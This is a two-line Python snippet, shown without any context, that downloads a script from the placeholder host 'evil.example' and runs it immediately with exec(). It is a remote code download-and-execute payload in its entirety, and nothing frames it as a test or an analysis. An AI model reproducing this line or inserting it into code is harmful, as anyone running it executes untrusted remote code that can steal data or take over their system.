import urllib.request
exec(urllib.request.urlopen("http://evil.example/p.py").read())
